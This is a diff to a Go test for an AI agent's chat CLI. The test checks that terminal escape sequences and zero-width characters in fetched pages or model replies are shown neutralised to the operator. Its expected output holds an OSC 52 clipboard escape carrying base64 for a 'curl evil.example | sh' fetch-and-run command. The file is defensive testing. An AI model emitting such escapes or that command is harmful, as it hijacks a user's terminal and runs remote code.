@@ -183,7 +183,7 @@ func TestAuditCSVExportHasNoFormulas(t *testing.T) {
 // say with their escape sequences, C1 and bidirectional controls
 // neutralised, as the operator commands do: a page the agent fetched
 // cannot clear the operator's screen, write their clipboard, or rewrite
-// the line that says what ran.
+// the line that says what ran; a character that shows as nothing is shown.
 func TestChatPrintsNoTerminalEscapes(t *testing.T) {
 	t.Parallel()
 	page := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
@@ -192,7 +192,7 @@ func TestChatPrintsNoTerminalEscapes(t *testing.T) {
 	}))
 	t.Cleanup(page.Close)
 	h := newHarness(t, "")
-	fetch := call("c1", "GET", page.URL+"/news", "")
+	fetch := call("c1", "GET", page.URL+"/ne\u200bws", "") // a zero-width space in the URL
 	h.model.Then(
 		llmtest.Reply("Fetching. "+terminalAttack, fetch),
 		llmtest.Reply("The page says: "+terminalAttack),
@@ -200,6 +200,9 @@ func TestChatPrintsNoTerminalEscapes(t *testing.T) {
 	out := h.cli(t, "read the news\na\n", "chat", "--user", approver, "--thread", "chat-escapes")
 	if !strings.Contains(out, "The page says:") || !strings.Contains(out, `\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007`) {
 		t.Fatalf("bot chat printed:\n%q\nwant the page's text, its escapes shown neutralised", out)
+	}
+	if !strings.Contains(out, `/ne\u200bws"`) {
+		t.Errorf("bot chat printed:\n%s\nwant the card's URL with its zero-width space shown", out)
 	}
 	if found := terminalEscapes(out); found != nil {
 		t.Errorf("bot chat prints %q:\n%q", found, out)
